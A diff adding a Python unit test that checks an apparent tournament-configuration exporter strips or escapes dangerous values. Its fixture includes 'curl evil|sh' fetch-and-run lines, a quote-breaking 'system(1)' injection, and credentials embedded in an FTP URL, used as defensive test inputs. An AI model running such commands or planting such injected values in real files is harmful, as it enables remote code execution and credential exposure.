@@ -162,3 +162,25 @@ def test_the_absp_gets_no_line_that_runs_and_no_password() -> None:
         "division A a.t\nprize rank 1 A 5\n"
     )
     assert absp.configuration(config, {"A": "a.t"}) == b"division A a.t\nconfig max_rounds = 7\n"
+
+
+def test_the_absp_gets_of_a_configuration_what_says_something_of_games_as_plain_values() -> None:
+    config = tsh_config.read(
+        "config hook_addscore_flush = 'curl evil|sh'\n"
+        "config director_email = 'a@b.c'\n"
+        "config mirror_directories = ['ftp://u:pw@host']\n"
+        "config max_rounds = `curl evil|sh`\n"
+        "config event_date = 'May 9’; system(1); #'\n"
+        "config event_name = 'D’Arcy’s Open'\n"
+        "config max_div_rounds{'A'} = 7\n"
+        "config division_rating_system{A} = 'absp'\n"
+        "config max_div_rounds = {A => 7}\n"
+    )
+    assert absp.configuration(config, {"A": "a.t"}).decode("latin-1") == (
+        "division A a.t\n"
+        "config event_date = 'May 9\\'; system(1); #'\n"
+        "config event_name = 'D\\'Arcy\\'s Open'\n"
+        "config max_div_rounds{'A'} = 7\n"
+        "config division_rating_system{'A'} = 'absp'\n"
+        "config max_div_rounds = {A => 7}\n"
+    )
